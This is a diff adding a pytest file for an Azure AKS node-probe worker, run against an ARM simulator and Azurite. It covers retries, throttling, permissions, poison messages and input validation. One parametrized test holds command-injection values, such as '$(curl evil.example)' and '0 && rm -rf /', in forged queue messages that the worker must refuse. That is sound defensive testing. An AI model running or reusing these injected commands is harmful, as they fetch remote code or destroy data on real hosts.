@@ -1,0 +1,407 @@
+"""The probe worker against the ARM simulator (real azure-mgmt-compute over HTTPS) and Azurite.
+
+The nodes here are scripted (an executor that answers in the probe's real output format from
+the parameters it was sent), so every outcome of the worker can be reached on purpose: busy
+VMs, throttling, lockdown, missing permission, poison, forged messages, redelivery. The real
+script on namespace nodes runs in tests/e2e/test_node_lab_e2e.py.
+"""
+
+from __future__ import annotations
+
+import base64
+import gzip
+import subprocess
+import threading
+from collections.abc import Iterator, Sequence
+from dataclasses import dataclass, field, replace
+from datetime import UTC, datetime
+
+import pytest
+from azure.data.tables import TableServiceClient
+from azure.mgmt.compute import ComputeManagementClient
+
+from shared.adapters.probe_ledger import ProbeLedger, ProbeStatus
+from shared.adapters.queues import ProbeQueue
+from shared.adapters.tables import FindingStore
+from shared.analysis.findings import Cause, Kind
+from shared.jobs.probe import ProbeDeps, ProbeOptions, handle_poison, handle_probe_message
+from shared.jobs.wiring import probe_deps
+from shared.probe.params import PARAMETER_NAMES
+from shared.probe_requests import ProbeKind, ProbeRequest
+from tests.armsim import SCENARIOS, ArmSimulator, Faults, load_estate
+from tests.armsim.faults import Failure, Throttle
+from tests.azurite import azurite  # noqa: F401
+
+SUB = "11111111-1111-1111-1111-111111111111"
+NOW = datetime(2026, 11, 22, 9, 0, tzinfo=UTC)
+HEALTHY = (
+    f"/subscriptions/{SUB}/resourceGroups/rg-web/providers/Microsoft.ContainerService/"
+    "managedClusters/aks-healthy"
+)
+HEALTHY_RG = "MC_rg-web_aks-healthy_eastus"
+PRIVATE = (
+    f"/subscriptions/{SUB}/resourceGroups/rg-private/providers/Microsoft.ContainerService/"
+    "managedClusters/aks-private"
+)
+DROP_10250 = (
+    "*filter\n:INPUT ACCEPT [0:0]\n:FORWARD ACCEPT [0:0]\n:OUTPUT ACCEPT [0:0]\n"
+    "-A INPUT -p tcp -m tcp --dport 10250 -j DROP\nCOMMIT\n"
+)
+
+
+def _blob(text: str) -> str:
+    return base64.b64encode(gzip.compress(text.encode())).decode()
+
+
+@dataclass
+class ScriptedNodes:
+    """Answers run commands like the probe script would, from the parameters it was sent.
+
+    `unreachable`: node addresses whose kubelet port times out; `deep_rules`: the iptables
+    dump a deep probe of a node (by address) returns; `gate`: instances whose command waits
+    for the event (to make the next command on them a 409).
+    """
+
+    addresses: dict[tuple[str, str], str]  # (vmss lower, instance id) -> primary address
+    unreachable: set[str] = field(default_factory=set)
+    deep_rules: dict[str, str] = field(default_factory=dict)
+    gate: dict[tuple[str, str], threading.Event] = field(default_factory=dict)
+    stdout_override: str | None = None
+    calls: list[dict[str, str]] = field(default_factory=list)
+
+    def __call__(
+        self, sub: str, rg: str, vmss: str, iid: str, script: Sequence[str],
+        params: Sequence[tuple[str, str]],
+    ) -> tuple[str, str]:  # fmt: skip
+        values = dict(params)
+        self.calls.append(values)
+        gate = self.gate.get((vmss.lower(), iid))
+        if gate is not None:
+            gate.wait(20)
+        if self.stdout_override is not None:
+            return self.stdout_override, ""
+        me = self.addresses[(vmss.lower(), iid)]
+        mode = values.get("TW_MODE", "-")
+        records = [
+            "tool\tnc=openbsd\ttimeout gzip base64 crictl iptables-legacy-save ip",
+            f"host\t{vmss}{iid}",
+            f"addr\teth0\t{me}/16",
+            "os\tubuntu\t22.04\t5.15.0-1064-azure",
+        ]
+        for target in filter(None, values.get("TW_TARGETS", "").split(",")):
+            records.append(f"nc\ttarget={target}:10250")
+            if target in self.unreachable:
+                records.append(
+                    f"nc\tnc: connect to {target} port 10250 (tcp) timed out: "
+                    "Operation now in progress"
+                )
+                records.append(f"nc\t{target}:10250 exit=1")
+            else:
+                records.append(f"nc\tConnection to {target} 10250 port [tcp/*] succeeded!")
+                records.append(f"nc\t{target}:10250 exit=0")
+        host = values.get("TW_API_HOST", "")
+        if host:
+            records += [
+                f"api\ttarget={host}:443",
+                f"api\tConnection to {host} (20.61.14.2) 443 port [tcp/https] succeeded!",
+                f"api\t{host}:443 exit=0",
+            ]
+        records.append("component\tkonnectivity-agent\tCONTAINER_RUNNING\t0\t0\t-\t-")
+        if mode == "deep":
+            accept = "*filter\n:INPUT ACCEPT [0:0]\n:FORWARD ACCEPT [0:0]\nCOMMIT\n"
+            records += [
+                "ufw\tabsent",
+                f"ruleset\tlegacy\t{_blob(self.deep_rules.get(me, accept))}",
+            ]
+        text = "\n".join([f"TWPROBE 1 BEGIN {mode}", *records, f"TWPROBE 1 END {len(records)}"])
+        return text + "\n", ""
+
+
+class Rig:
+    def __init__(self, sim: ArmSimulator, nodes: ScriptedNodes, conn: str, prefix: str) -> None:
+        self.sim = sim
+        self.nodes = nodes
+        tables = TableServiceClient.from_connection_string(conn)
+        self.store = FindingStore(tables, prefix=prefix)
+        self.store.ensure_tables()
+        self.ledger = ProbeLedger(tables, prefix=prefix)
+        self.ledger.ensure()
+        self.queue = ProbeQueue.from_connection_string(conn, f"{prefix}-probes")
+        self.queue.ensure()
+        self.poison = self.queue.sibling(f"{prefix}-probes-poison")
+        self.poison.ensure()
+        self.options = ProbeOptions(subscriptions=(SUB,), max_attempts=3)
+        self.deps: ProbeDeps = probe_deps(
+            sim.credential(), arm_endpoint=sim.endpoint, ca_bundle=sim.ca_path,
+            store=self.store, ledger=self.ledger, queue=self.queue, poison=self.poison,
+            clock=lambda: NOW,
+        )  # fmt: skip
+        self.deps.jitter = lambda: 0.0
+
+    def estate(self):  # type: ignore[no-untyped-def]
+        return self.deps.inventory(SUB)
+
+    def pool(self, cluster_id: str, name: str):  # type: ignore[no-untyped-def]
+        cluster = next(c for c in self.estate().clusters if c.id.lower() == cluster_id.lower())
+        return cluster, next(p for p in cluster.pools if p.name == name)
+
+    def request(self, cluster_id: str, pool: str, instance: str = "0",
+                kind: ProbeKind = ProbeKind.TRIAGE) -> ProbeRequest:  # fmt: skip
+        cluster, p = self.pool(cluster_id, pool)
+        return ProbeRequest.new(
+            kind, scan_id="probe-test", subscription=SUB, cluster_id=cluster.id,
+            node_resource_group=cluster.node_resource_group, vmss=p.vmss_name,
+            instance_id=instance, reason="test", now=NOW,
+        )  # fmt: skip
+
+    def handle(self, request: ProbeRequest | str):  # type: ignore[no-untyped-def]
+        text = request if isinstance(request, str) else request.to_json()
+        return handle_probe_message(text, self.options, self.deps)
+
+
+def _addresses(sim_estate) -> dict[tuple[str, str], str]:  # type: ignore[no-untyped-def]
+    out = {}
+    for doc_list_key, docs in sim_estate.lists.items():
+        if not doc_list_key.endswith("/networkinterfaces"):
+            continue
+        for nic in docs:
+            vm = nic["properties"].get("virtualMachine", {}).get("id", "")
+            if "/virtualmachinescalesets/" not in vm.lower():
+                continue
+            parts = vm.split("/")
+            ip = nic["properties"]["ipConfigurations"][0]["properties"]["privateIPAddress"]
+            out[(parts[-3].lower(), parts[-1])] = ip
+    return out
+
+
+@pytest.fixture
+def faults() -> Faults | None:
+    return None  # a test parametrizes `faults` to inject some
+
+
+@pytest.fixture
+def rig(azurite: str, faults: Faults | None) -> Iterator[Rig]:  # noqa: F811
+    estate = load_estate(SCENARIOS / "demo.json")
+    nodes = ScriptedNodes(_addresses(estate))
+    with ArmSimulator(estate, executor=nodes, faults=faults) as sim:
+        prefix = "tw" + sim.endpoint.rsplit(":", 1)[1]
+        yield Rig(sim, nodes, azurite, prefix)
+
+
+def test_triage_finds_the_unreachable_node_and_the_deep_probe_names_the_rule(rig: Rig) -> None:
+    cluster, system = rig.pool(HEALTHY, "system")
+    _, apps = rig.pool(HEALTHY, "apps")
+    victim = apps.instances[1]
+    rig.nodes.unreachable.add(victim.private_ips[0])
+    rig.nodes.deep_rules[victim.private_ips[0]] = DROP_10250
+
+    triage = rig.handle(rig.request(HEALTHY, "system"))
+    assert triage.status is ProbeStatus.DONE, triage.detail
+    assert triage.run_commands == 1
+    # What was sent: identifiers in, addresses from the inventory out, nothing else.
+    (sent,) = rig.sim.run_command_requests
+    params = dict(sent.parameters)
+    assert set(params) == set(PARAMETER_NAMES)
+    others = {
+        i.private_ips[0] for p in cluster.pools for i in p.instances
+        if i.computer_name != system.instances[0].computer_name and p.os_type == "Linux"
+    }  # fmt: skip
+    assert others <= set(params["TW_TARGETS"].split(","))
+    assert params["TW_MODE"] == "triage" and params["TW_API_HOST"] == cluster.fqdn
+    blocked = [f for f in triage.findings if f.kind is Kind.PROBLEM]
+    assert [f.subject.node for f in blocked] == [victim.computer_name]
+    (deep,) = triage.follow_ups
+    assert (deep.kind, deep.vmss, deep.instance_id) == (
+        ProbeKind.DEEP,
+        apps.vmss_name,
+        victim.instance_id,
+    )
+    queued = rig.queue.take()
+    assert [ProbeRequest.from_json(t).request_id for t in queued] == [deep.request_id]
+
+    result = rig.handle(queued[0])
+    assert result.status is ProbeStatus.DONE and result.run_commands == 1
+    causes = {f.cause for f in result.findings if f.kind is Kind.PROBLEM}
+    assert causes == {Cause.IPTABLES}
+    stored = rig.store.current_findings(HEALTHY)
+    assert {s.scope for s in stored} == {
+        "probe:triage:system",
+        f"probe:deep:{victim.computer_name}",
+    }
+    ledger = {e.request_id: e for e in rig.ledger.entries("probe-test")}
+    assert sum(e.run_commands for e in ledger.values()) == 2
+
+    # The node is fixed: the next triage finds it reachable and re-checks it with a deep probe,
+    # which resolves the iptables finding (only the probe that owns a finding resolves it).
+    rig.nodes.unreachable.clear()
+    rig.nodes.deep_rules.clear()
+    again = rig.handle(rig.request(HEALTHY, "system"))
+    assert [r.instance_id for r in again.follow_ups] == [victim.instance_id]
+    rig.handle(rig.queue.take()[0])
+    assert not [s for s in rig.store.open_findings(subscription=SUB, cluster_id=HEALTHY)]
+
+
+def test_redelivered_messages_do_not_run_or_record_twice(rig: Rig) -> None:
+    request = rig.request(HEALTHY, "system")
+    first = rig.handle(request)
+    assert first.status is ProbeStatus.DONE
+    again = rig.handle(request)
+    assert again.status is ProbeStatus.DONE and again.run_commands == 0
+    assert "duplicate" in again.detail
+    assert len(rig.sim.run_command_requests) == 1
+
+
+def test_busy_instance_is_retried_later_as_a_new_delayed_message(rig: Rig) -> None:
+    _, system = rig.pool(HEALTHY, "system")
+    gate = threading.Event()
+    rig.nodes.gate[(system.vmss_name.lower(), "0")] = gate
+    compute = ComputeManagementClient(rig.sim.credential(), SUB, **rig.sim.client_kwargs())
+    owners = compute.virtual_machine_scale_set_vms.begin_run_command(
+        HEALTHY_RG, system.vmss_name, "0", {"commandId": "RunShellScript", "script": ["true"]}
+    )  # the cluster owners' command, still running
+    try:
+        result = rig.handle(rig.request(HEALTHY, "system"))
+    finally:
+        gate.set()
+        owners.result()
+    assert result.status is ProbeStatus.RETRY
+    assert "409" in result.detail and "Conflict" in result.detail
+    (later,) = result.follow_ups
+    assert later.attempt == 2
+    assert "retry in 90s" in result.detail  # busy: 90 s first, doubling; jitter off here
+    assert rig.queue.take() == []  # invisible until the delay passes: never hammered
+    entry = rig.ledger.get("probe-test", later.request_id)
+    assert entry is not None and entry.status is ProbeStatus.RETRY and entry.attempt == 1
+
+
+def test_last_attempt_goes_to_poison_and_becomes_an_inconclusive_finding(rig: Rig) -> None:
+    _, system = rig.pool(HEALTHY, "system")
+    gate = threading.Event()
+    rig.nodes.gate[(system.vmss_name.lower(), "0")] = gate
+    compute = ComputeManagementClient(rig.sim.credential(), SUB, **rig.sim.client_kwargs())
+    owners = compute.virtual_machine_scale_set_vms.begin_run_command(
+        HEALTHY_RG, system.vmss_name, "0", {"commandId": "RunShellScript", "script": ["true"]}
+    )
+    last = replace(rig.request(HEALTHY, "system"), attempt=3)
+    try:
+        result = rig.handle(last)
+    finally:
+        gate.set()
+        owners.result()
+    assert result.status is ProbeStatus.POISONED
+    (poisoned,) = rig.poison.take()
+    assert ProbeRequest.from_json(poisoned).request_id == last.request_id
+    handled = handle_poison(poisoned, rig.options, rig.deps)
+    (finding,) = handled.findings
+    assert finding.kind is Kind.INCONCLUSIVE and "failed 3 times" in finding.title
+    assert "Conflict" in finding.evidence[0]
+    stored = rig.store.open_findings(subscription=SUB, cluster_id=HEALTHY)
+    assert [s.finding.title for s in stored] == [finding.title]
+    # The original message delivered again: the ledger says poisoned, nothing runs.
+    assert rig.handle(last).run_commands == 0
+
+
+def test_node_resource_group_lockdown_is_a_coverage_finding(rig: Rig) -> None:
+    result = rig.handle(rig.request(PRIVATE, "system"))
+    assert result.status is ProbeStatus.DENIED
+    (finding,) = result.findings
+    assert finding.kind is Kind.COVERAGE
+    assert finding.remediation is not None
+    assert "--nrg-lockdown-restriction-level Unrestricted" in finding.remediation.commands[0]
+    assert result.follow_ups == ()  # a 403 is not retried
+    assert rig.nodes.calls == []
+
+
+@pytest.mark.parametrize("faults", [
+    Faults(failures=[Failure("virtualMachineScaleSetVMs.runCommand", status=403,
+                             code="AuthorizationFailed", message="no runCommand/action")])
+])  # fmt: skip
+def test_missing_permission_says_which_role(rig: Rig) -> None:
+    result = rig.handle(rig.request(HEALTHY, "system"))
+    assert result.status is ProbeStatus.DENIED
+    (finding,) = result.findings
+    assert finding.remediation is not None
+    assert "Virtual Machine Contributor" in finding.remediation.commands[0]
+    assert HEALTHY_RG in finding.remediation.commands[0]
+
+
+@pytest.mark.parametrize(
+    "faults",
+    [
+        Faults(
+            throttles=[Throttle("virtualMachineScaleSetVMs.runCommand", first=1, retry_after=150)]
+        )
+    ],
+)
+def test_throttling_waits_at_least_retry_after(rig: Rig) -> None:
+    result = rig.handle(rig.request(HEALTHY, "system"))
+    assert result.status is ProbeStatus.RETRY
+    assert "retry in 150s" in result.detail  # Retry-After (150) beats the 60 s first backoff
+
+
+def test_skips_are_recorded_with_the_reason(rig: Rig) -> None:
+    windows = rig.handle(rig.request(HEALTHY, "win1"))
+    assert windows.status is ProbeStatus.SKIPPED and "Windows" in windows.detail
+    shop = (
+        "/".join(HEALTHY.split("/")[:4])
+        + "/rg-shop/providers/Microsoft.ContainerService/managedClusters/aks-shop"
+    )
+    opted = rig.handle(rig.request(shop, "user"))
+    assert opted.status is ProbeStatus.SKIPPED and "tunnelwatch-probe=off" in opted.detail
+    assert rig.sim.run_command_requests == []
+
+
+@pytest.mark.parametrize(
+    "field_name, value",
+    [
+        ("vmss", "aks-system-1234-vmss;reboot"),
+        ("vmss", "$(curl evil.example)"),
+        ("instance_id", "0 && rm -rf /"),
+        ("node_resource_group", "rg`id`"),
+        ("cluster_id", HEALTHY + "/../x"),
+    ],
+)
+def test_forged_messages_are_refused_before_any_run_command(
+    rig: Rig, field_name: str, value: str
+) -> None:
+    doc = rig.request(HEALTHY, "system").to_json()
+    import json
+
+    forged = json.loads(doc)
+    forged[field_name] = value
+    result = rig.handle(json.dumps(forged))
+    assert result.status is None and result.detail.startswith("refused")
+    assert rig.sim.run_command_requests == []
+
+
+def test_unknown_ids_are_refused_before_any_run_command(rig: Rig) -> None:
+    good = rig.request(HEALTHY, "system")
+    for bad in (
+        replace(good, instance_id="97"),
+        replace(good, vmss="aks-system-00000000-vmss"),
+        replace(good, node_resource_group="rg-elsewhere"),
+        replace(good, cluster_id=HEALTHY.replace("aks-healthy", "aks-ghost")),
+    ):
+        result = rig.handle(replace(bad, request_id=ProbeRequest.new(
+            ProbeKind.TRIAGE, scan_id="x", subscription=SUB, cluster_id=HEALTHY,
+            node_resource_group="r", vmss="v", instance_id="0", reason="", now=NOW,
+        ).request_id))  # fmt: skip
+        assert result.status is ProbeStatus.REFUSED, result.detail
+    assert rig.sim.run_command_requests == []
+
+
+def test_what_reaches_the_extension_is_only_exports_of_checked_values(rig: Rig) -> None:
+    rig.handle(rig.request(HEALTHY, "system"))
+    (sent,) = rig.sim.run_command_requests
+    # The extension prepends `export NAME=value` lines, unquoted. Execute exactly that
+    # preamble with bash's xtrace: the only commands run must be the exports themselves.
+    preamble = "".join(f"export {n}={v}\n" for n, v in sent.parameters)
+    proc = subprocess.run(
+        ["bash", "-x", "-c", preamble + "declare -p " + " ".join(n for n, _ in sent.parameters)],
+        capture_output=True, text=True, timeout=10, check=True,
+    )  # fmt: skip
+    traced = [ln for ln in proc.stderr.splitlines() if ln.startswith("+")]
+    assert all(ln.startswith(("+ export TW_", "+ TW_", "+ declare -p")) for ln in traced), traced
+    assert sum(ln.startswith("+ export ") for ln in traced) == len(sent.parameters)
+    for name, value in sent.parameters:
+        assert f'declare -x {name}="{value}"' in proc.stdout
